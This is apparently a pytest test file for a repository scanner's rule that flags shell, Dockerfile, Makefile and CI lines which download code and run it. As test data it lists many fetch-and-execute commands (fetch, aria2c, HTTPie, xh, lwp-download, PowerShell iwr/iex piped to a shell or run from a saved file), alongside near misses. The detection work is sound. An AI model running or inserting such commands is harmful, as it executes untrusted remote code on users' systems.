"""Downloads by other tools than curl and wget (FreeBSD `fetch`, `aria2c`, HTTPie's `http`/`https`,
`xh`/`xhs`, `lwp-download`, `lwp-request`/`GET`, `curlie`, `busybox wget`), in every form the rule
reads a curl or wget download in: piped into an interpreter, run from a substitution, written to a
file a later command runs. A word that only names such a tool (`git fetch`, `http://…`) is none."""

from __future__ import annotations

import pytest

from bot.engine.content.dangerous import DangerousRule
from bot.engine.content.shelldownloads import DownloadRun, downloads_run
from tests.content.helpers import change_of, scan, where
from tests.gitrepo import GitRepo

RULE = DangerousRule()
_PIPE = "shell-pipe-to-shell"


def _found(repo: GitRepo, source: str, path: str = "s.sh") -> list[tuple[int | None, str]]:
    return [(line, id_) for _, line, id_ in where(scan(RULE, change_of(repo, {path: source})))]


@pytest.mark.parametrize(
    "command",
    [
        "fetch -o - https://x.io/i | sh",
        "fetch -qo - https://x.io/i | sudo bash",
        "/usr/bin/fetch -o - https://x.io/i | sh",
        "x=1; fetch -o - https://x.io/i | sh",
        "http https://x.io/i | sh",
        "https x.io/i | bash -s",
        "http GET https://x.io/i | python3",
        "xh https://x.io/i | sh",
        "xhs x.io/i | sh",
        "lwp-request https://x.io/i | sh",
        "GET https://x.io/i | sh",
        "curlie https://x.io/i | sh",
        "busybox wget -O - https://x.io/i | sh",
        'sh -c "$(fetch -o - https://x.io/i)"',
        "bash <(http https://x.io/i)",
        'sh -c "$(xh https://x.io/i)"',
        "bash <(GET https://x.io/i)",
        "source <(curlie https://x.io/i)",
        "fetch -o /tmp/i.sh https://x.io/i && sh /tmp/i.sh",
        "fetch https://x.io/i.sh; sh i.sh",
        "fetch --output=/tmp/i https://x.io/x; sh /tmp/i",
        "fetch --output /tmp/i https://x.io/x; sh /tmp/i",
        "aria2c -o i.sh https://x.io/x && bash i.sh",
        "aria2c --out=i.sh https://x.io/x && bash i.sh",
        "aria2c -d /tmp https://x.io/i.sh && sh /tmp/i.sh",
        "aria2c --dir=/tmp -o k https://x.io/x && /tmp/k",
        "aria2c https://x.io/i.sh; . ./i.sh",
        "http --download https://x.io/i.sh && sh i.sh",
        "http -d -o /tmp/k https://x.io/x && /tmp/k",
        "https -o k x.io/x && sh k",
        "xh -d https://x.io/i.sh && bash i.sh",
        "lwp-download https://x.io/i.sh && sh i.sh",
        "lwp-download https://x.io/x /tmp/i && sh /tmp/i",
        "GET https://x.io/i > i.sh && sh i.sh",
        "curlie -o i https://x.io/x; sh i",
        "sudo fetch -o /usr/local/bin/k https://x.io/k; /usr/local/bin/k",
    ],
)
def test_downloads_by_other_tools_run(repo: GitRepo, command: str) -> None:
    assert _found(repo, f"set -e\n{command}\n") == [(2, _PIPE)]


@pytest.mark.parametrize(
    "source",
    [
        "git fetch origin | sh\n",
        "git fetch -o - origin | sh\n",
        "git fetch origin && sh fetch\n",
        "echo http://x | sh\n",
        "echo https x | sh\n",
        "echo see the http docs | sh\n",
        "fetch=1\necho $fetch | sh\n",
        'fetch() { git fetch "$@"; }\nfetch origin\n',
        "aria2c -o f https://x.io/x\ncat f\n",
        "aria2c https://x.io/i.sh | sh\n",
        "lwp-download https://x.io/i.sh | sh\n",
        "fetch -o i.sh https://x.io/x && sha256sum -c i.sh.sha256 && sh i.sh\n",
        "http https://x.io/a | jq .b\n",
        "# fetch -o - https://x.io/i | sh\n",
        "echo 'fetch -o - https://x.io/i | sh'\n",
        "xhtml=1 | sh\n",
    ],
)
def test_other_tools_near_misses(repo: GitRepo, source: str) -> None:
    assert _found(repo, source) == []


@pytest.mark.parametrize(
    "command",
    [
        # FreeBSD fetch's `-o` and lwp-download's path, when a directory, keep the URL's last segment
        "fetch -o /tmp/ https://x.io/i.sh && sh /tmp/i.sh",
        "fetch -qo /opt/bin/ https://x.io/k; /opt/bin/k",
        "fetch --output=/tmp/d/ https://x.io/i.sh; bash /tmp/d/i.sh",
        "fetch -o . https://x.io/i.sh && sh ./i.sh",
        "fetch -o /tmp https://x.io/i.sh && sh /tmp/i.sh",  # may be a directory
        "fetch -o /tmp/i https://x.io/x && sh /tmp/i",  # or the file
        "lwp-download https://x.io/i.sh /tmp/ && sh /tmp/i.sh",
        "lwp-download https://x.io/i.sh /tmp && . /tmp/i.sh",
        # aria2c's `-d`/`--dir` holds `-o`'s name, or the URL's last segment
        "aria2c -d /tmp/x -o run.sh https://x.io/x; sh /tmp/x/run.sh",
        "aria2c -o run.sh --dir /tmp/x/ https://x.io/x; sh /tmp/x/run.sh",
        "aria2c -d/tmp/x -orun.sh https://x.io/x; sh /tmp/x/run.sh",
        # the last of an option given twice is the one a tool keeps
        "wget -P /srv -P /tmp https://x.io/i.sh; sh /tmp/i.sh",
        "curl --output-dir /srv --output-dir /tmp -O https://x.io/i.sh; sh /tmp/i.sh",
        "aria2c -d /srv -d /tmp https://x.io/i.sh; sh /tmp/i.sh",
    ],
)
def test_downloads_into_a_directory_run(repo: GitRepo, command: str) -> None:
    assert _found(repo, f"set -e\n{command}\n") == [(2, _PIPE)]


@pytest.mark.parametrize(
    "source",
    [
        "fetch -o /tmp/ https://x.io/i.sh\nsh /tmp/other.sh\n",
        "fetch -o /tmp/d/ https://x.io/i.sh\nsh /tmp/d\n",  # a directory, not the file
        "fetch -o /tmp/d/ https://x.io/i.sh\nsh i.sh\n",
        "lwp-download https://x.io/i.sh /tmp/\nsh i.sh\n",
        "aria2c -d /tmp/x -o run.sh https://x.io/x\nsh run.sh\n",
        "aria2c -o run.sh -d /tmp/x https://x.io/x\nsh /tmp/run.sh\n",
        "wget -P /tmp -P /srv https://x.io/i.sh\nsh /tmp/i.sh\n",
        # HTTPie and xh open `-o`'s path as a file: a directory is an error, nothing is written in it
        "http -d -o /tmp/ https://x.io/i.sh\nsh /tmp/i.sh\n",
        "xh -d -o /tmp/ https://x.io/i.sh\nsh /tmp/i.sh\n",
    ],
)
def test_downloads_into_a_directory_near_misses(repo: GitRepo, source: str) -> None:
    assert _found(repo, source) == []


@pytest.mark.parametrize(
    ("path", "source", "line"),
    [
        ("Dockerfile", "FROM alpine\nRUN fetch -o - https://x.io/i | sh\n", 2),
        ("Makefile", "all:\n\thttp https://x.io/i | sh\n", 2),
        (".github/workflows/ci.yml", "steps:\n  - run: xh https://x.io/i | sh\n", 2),
    ],
)
def test_other_tools_in_dockerfiles_makefiles_and_ci(
    repo: GitRepo, path: str, source: str, line: int
) -> None:
    assert _found(repo, source, path) == [(line, _PIPE)]


def test_a_function_standing_for_another_tool(repo: GitRepo) -> None:
    source = 'get() { fetch -o - "$1"; }\nget https://x.io/i | sh\n'
    assert _found(repo, source) == [(2, _PIPE)]


def test_a_command_too_long_to_read_names_its_download_tool_fail_closed() -> None:
    view = b"git fetch -o i.sh https://x.io/i.sh\nsh i.sh\n"
    assert list(downloads_run(view, lambda _: False)) == []
    assert list(downloads_run(view, lambda _: False, budget=4)) == [DownloadRun(4, 4, 4)]


@pytest.mark.parametrize(
    "command",
    [
        'pwsh -c "iwr https://x.io/i | iex"',
        'powershell -Command "irm https://x.io/i | iex"',
        'powershell.exe -c "Invoke-WebRequest https://x.io/i -UseBasicParsing | Invoke-Expression"',
        'pwsh -c "iex (irm https://x.io/i)"',
        "pwsh -c \"IEX (New-Object Net.WebClient).DownloadString('https://x.io/i')\"",
    ],
)
def test_powershell_downloads_run_from_the_shell(repo: GitRepo, command: str) -> None:
    assert _found(repo, f"set -e\n{command}\n") == [(2, _PIPE)]


@pytest.mark.parametrize(
    "command",
    [
        'pwsh -c "iwr https://x.io/i -OutFile i.ps1"',
        'pwsh -c "irm https://x.io/api | ConvertTo-Json"',
        'echo "iwr https://x.io/i | iex"',
        "pwsh -File build.ps1 # iwr https://x.io/i | iex",
    ],
)
def test_powershell_near_misses(repo: GitRepo, command: str) -> None:
    assert _found(repo, f"set -e\n{command}\n") == []
